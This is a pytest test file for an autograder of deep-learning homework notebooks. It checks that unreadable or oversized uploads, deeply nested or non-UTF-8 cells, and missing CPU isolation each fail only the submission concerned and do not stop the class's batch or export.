def test_what_the_grader_cannot_read_in_one_upload_stops_no_batch() -> None:
    """A grader that is not root (an instructor's laptop) could not read a file of mode 000 or
    stat the entries of a folder of mode 444, as a student's zip unpacks them: the re-run key's
    PermissionError stopped the whole class's batch before anything was graded. The digest is
    computed here as another user when the tests run as root (root reads everything)."""
    from dlhw.autograder.batch import submission_digest

    folder = Path(tempfile.mkdtemp(prefix="dlhw-digest-", dir="/var/tmp"))
    try:
        os.chmod(folder, 0o755)
        (folder / "work.txt").write_text("the student's work")
        os.chmod(folder / "work.txt", 0o644)
        (folder / "locked.txt").write_text("x")
        os.chmod(folder / "locked.txt", 0)
        (folder / "listable").mkdir()
        (folder / "listable" / "inner.txt").write_text("y")
        os.chmod(folder / "listable", 0o444)  # its names can be read, not its entries
        read, write = os.pipe()
        pid = os.fork()
        if pid == 0:  # pragma: no cover - the child
            code = 1
            try:
                if os.geteuid() == 0:
                    os.setgroups([])
                    os.setgid(65534)
                    os.setuid(65534)
                os.write(write, submission_digest(folder).encode())
                os.write(write, b" " + submission_digest(folder).encode())
                code = 0
            except BaseException as exc:  # noqa: BLE001 - reported to the parent
                os.write(write, f"{type(exc).__name__}: {exc}".encode())
            finally:
                os._exit(code)
        os.close(write)
        with os.fdopen(read, "rb") as pipe:
            said = pipe.read().decode()
        _, status = os.waitpid(pid, 0)
        assert os.waitstatus_to_exitcode(status) == 0, said
        first, second = said.split()
        assert first == second and first != submission_digest(folder)  # root reads all of it
    finally:
        os.chmod(folder / "listable", 0o755)
        shutil.rmtree(folder)


def test_too_many_files_in_one_upload_fail_that_submission_only(
    tmp_path: Path, monkeypatch
) -> None:
    from dlhw.autograder import notebook

    monkeypatch.setattr(notebook, "MAX_UPLOAD_ENTRIES", 50)
    stub = STUB
    folder = tmp_path / "class"
    for name in ("many", "plain"):
        (folder / name).mkdir(parents=True)
        shutil.copy(stub, folder / name / stub.name)
    for k in range(60):
        (folder / "many" / f"{k}.txt").write_text("x")
    rows = grade_batch(HW, folder, tmp_path / "out", jobs=1, limits=FAST_LIMITS)
    assert [(r.key, r.status) for r in rows] == [("many", "grader failed"), ("plain", "graded")]
    assert "more than 50 files" in rows[0].feedback["(grader)"]


def test_export_says_nothing_of_ipython_where_it_is_not_installed(tmp_path, monkeypatch, recwarn):
    """nbconvert's Python template warns, without IPython (Gradescope's image, the 3.10 CI
    step), that it cannot transform IPython syntax: export's cells are Python already."""
    import sys

    from dlhw.autograder.cli import main

    monkeypatch.setitem(sys.modules, "IPython.core.inputtransformer2", None)  # ImportError
    folder = tmp_path / "class"
    folder.mkdir()
    nbformat.write(nbformat.read(get_homework("hw1").master, as_version=4), folder / "a.ipynb")
    assert main(["export", "hw1", str(folder), "-o", str(tmp_path / "out")]) == 0
    assert [str(w.message) for w in recwarn] == []


def test_export_writes_each_submissions_graded_code_as_a_script(tmp_path, capsys):
    """`autograder export`: the graded cells of each submission as a Python script, as the
    grader runs them (magics made Python as in the worker), the stub's as the base file; an unreadable upload is left out with its
    reason, nothing is run, and OUT must be new."""
    from dlhw.autograder.cli import main

    hw = get_homework("hw1")
    cells = [c.source for c in graded_cells(hw.master).cells]
    cells[0] = "%matplotlib inline\n" + cells[0]
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
    nb.cells.append(
        nbformat.v4.new_code_cell(
            "raise SystemExit('never run')", metadata={"tags": ["skip-grading"]}
        )
    )
    folder = tmp_path / "class"
    folder.mkdir()
    nbformat.write(nb, folder / "alice.ipynb")
    (folder / "bob.ipynb").write_text("not a notebook")
    out = tmp_path / "out"
    assert main(["export", "hw1", str(folder), "-o", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "left out bob: bob.ipynb is not valid JSON" in printed
    script = (out / "scripts" / "alice.py").read_text()
    assert "%matplotlib" not in script and "pass  # removed IPython magic" in script
    assert "def softmax_loss" in script and "never run" not in script
    compile(script, "alice.py", "exec")  # plain Python
    assert "def softmax_loss" in (out / "handout.py").read_text()
    assert sorted(p.name for p in (out / "scripts").iterdir()) == ["alice.py"]
    assert main(["export", "hw1", str(folder), "-o", str(out)]) == 1  # not a new folder
    assert "not an empty folder" in capsys.readouterr().err


def test_export_writes_cells_the_compiler_or_utf8_refuses(tmp_path, capsys):
    """Cells nested too deep for the compiler (RecursionError, MemoryError: not SyntaxErrors) and
    a lone surrogate (JSON's "\\ud800", which UTF-8 cannot write) stopped the export of the whole
    class with a traceback: each is written as it is, and the other students' scripts too."""
    from dlhw.autograder.cli import main

    folder = tmp_path / "class"
    folder.mkdir()
    cells = {
        "deep": "x = " + "+".join(["1"] * 100_000),
        "minus": "x = " + "-" * 100_000 + "1",
        "surrogate": "x = '\ud800'",  # a lone surrogate: JSON holds it as an escape
    }
    for name, source in cells.items():
        nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source)])
        (folder / f"{name}.ipynb").write_text(json.dumps(nb, ensure_ascii=True))
    shutil.copy(HW.master, folder / "zoe.ipynb")
    out = tmp_path / "out"
    assert main(["export", "hw1", str(folder), "-o", str(out)]) == 0
    assert "left out" not in capsys.readouterr().out
    scripts = out / "scripts"
    assert sorted(p.name for p in scripts.iterdir()) == [
        "deep.py", "minus.py", "surrogate.py", "zoe.py",
    ]  # fmt: skip
    assert "+".join(["1"] * 100_000) in (scripts / "deep.py").read_text()
    assert "x = '\\ud800'" in (scripts / "surrogate.py").read_text()
    assert "def softmax_loss" in (scripts / "zoe.py").read_text()


def test_the_summarys_median_of_an_even_class_is_the_mean_of_the_middle_two():
    from dlhw.autograder.batch import Row
    from dlhw.autograder.gradebook import summary_markdown

    rows = [Row(f"s{i}", (f"s{i}",), "graded", score, 4.0) for i, score in enumerate([1, 2, 3, 4])]
    assert "Median score 2.5 of 4; mean 2.50." in summary_markdown(rows, [])
    assert "# Class summary: 4 submissions" in summary_markdown(rows, [])


@pytest.mark.parametrize("shared_cpu", [False, True])
def test_without_a_cpu_cgroup_per_run_a_batch_grades_one_at_a_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, shared_cpu: bool
) -> None:
    """Side by side without the cpu controller, one submission's spinners made a neighbour's
    honest call (0.57 s alone) time out at 10 s (docs/attacks/README.md): the batch grades one
    at a time then, and says why, unless told --shared-cpu."""
    import dlhw.autograder.batch as batch

    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "empty.ipynb").write_text("")  # unreadable: graded at once, no worker
    workers: list[int] = []

    class Pool(batch.ProcessPoolExecutor):
        def __init__(self, max_workers: int, **kwargs: object) -> None:
            workers.append(max_workers)
            super().__init__(max_workers, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(batch, "ProcessPoolExecutor", Pool)
    monkeypatch.setattr(batch, "cpu_not_isolated", lambda limits: "no cgroups (simulated)")
    said: list[str] = []
    rows = grade_batch(HW, folder, tmp_path / "out", jobs=2, limits=FAST_LIMITS,
                       shared_cpu=shared_cpu, warn=said.append)  # fmt: skip
    assert [r.status for r in rows] == ["unreadable"]
    if shared_cpu:
        assert workers == [2] and said == []
    else:
        assert workers == [1]
        assert len(said) == 1 and "one submission at a time: no cgroups (simulated)" in said[0]


def test_what_takes_a_batch_s_cpu_isolation_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    from dlhw.autograder.batch import cpu_not_isolated

    monkeypatch.setenv("DLHW_SANDBOX", "same-user")
    assert cpu_not_isolated(Limits()).startswith("no sandbox uid")
    monkeypatch.delenv("DLHW_SANDBOX")
    if os.geteuid() == 0:
        monkeypatch.setenv("DLHW_KERNEL_LAYERS", "off")
        assert cpu_not_isolated(Limits()) == "the kernel layers are off (DLHW_KERNEL_LAYERS)"
